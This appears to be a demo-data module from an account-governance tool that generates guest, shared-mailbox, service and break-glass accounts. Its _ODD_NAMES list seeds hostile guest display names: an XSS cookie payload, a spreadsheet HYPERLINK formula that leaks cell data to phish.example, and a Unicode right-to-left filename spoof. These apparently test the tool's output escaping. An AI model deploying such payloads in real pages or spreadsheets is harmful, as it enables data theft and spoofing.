"""Accounts without an employee: guests, shared mailboxes, service accounts and break-glass accounts."""

from __future__ import annotations

from govcheck.demo.basis import DOMAIN, ago, chance, guid
from govcheck.demo.names import address, draw_name
from govcheck.demo.people import Kind, Person

_PARTNERS: tuple[tuple[str, str], ...] = (
    ("Waddenwind Advies", "waddenwind.example"),
    ("Bureau Terp", "bureauterp.example"),
    ("Kade & Partners Accountants", "kadeaccountants.example"),
    ("Meetwerk Sensoren", "meetwerk.example"),
    ("Studio Zuidwester", "zuidwester.example"),
)

_ODD_NAMES: tuple[tuple[str, str, str], ...] = (
    ("<img src=x onerror=alert(document.cookie)>", "inkoop", "leverancier.example"),
    ('=HYPERLINK("http://phish.example/?d="&A1,"Offerte")', "offerte", "leverancier.example"),
    ("Jan \u202egpj.tnuocca\u202c Bakker", "jan.bakker", "freelancer.example"),
)
"""Guests name themselves: markup, a spreadsheet formula, and letters that run the other way."""

_MAILBOXES = ("info", "planning", "facturen", "werken.bij", "storingen", "balie")
_SERVICES = ("svc-scan2mail", "svc-backup", "svc-adsync", "svc-narrowcasting")
_PENDING_SHARE = 0.25


def invite(employees: int, seed: int) -> list[Person]:
    """Invite about one guest for every twelve employees; a quarter of them never accept."""
    rng = chance(seed, "guests")
    guests = [_guest(name, f"{local}@{domain}", None, 212, pending=True) for name, local, domain in _ODD_NAMES]
    for _ in range(max(3, employees // 12)):
        given, surname = draw_name(rng)
        company, domain = rng.choice(_PARTNERS)
        name, mail = f"{given} {surname} ({company})", f"{address(given, surname)}@{domain}"
        guests.append(_guest(name, mail, company, rng.uniform(5, 900), pending=rng.random() < _PENDING_SHARE))
    return list({guest.id: guest for guest in guests}.values())


def _guest(name: str, mail: str, company: str | None, invited_days: float, *, pending: bool) -> Person:
    upn = f"{mail.replace('@', '_')}#EXT#@{DOMAIN}"
    return Person(
        id=guid("user", upn),
        upn=upn,
        mail=mail,
        name=name,
        kind="guest",
        company=company,
        created=ago(invited_days),
        pending=pending,
    )


def provision() -> list[Person]:
    """Provide the accounts of machines and mailboxes, and the two break-glass accounts."""
    return [
        *(_account("mailbox", name, f"Postvak {name}", enabled=False) for name in _MAILBOXES),
        *(_account("service", name, name) for name in _SERVICES),
        _account("break_glass", "noodtoegang-1", "Noodtoegang 1"),
        _account("break_glass", "noodtoegang-2", "Noodtoegang 2"),
    ]


def _account(kind: Kind, local: str, name: str, *, enabled: bool = True) -> Person:
    upn = f"{local}@{DOMAIN}"
    return Person(
        id=guid("user", upn),
        upn=upn,
        mail=upn if kind == "mailbox" else None,
        name=name,
        kind=kind,
        enabled=enabled,
        created=ago(1400),
    )
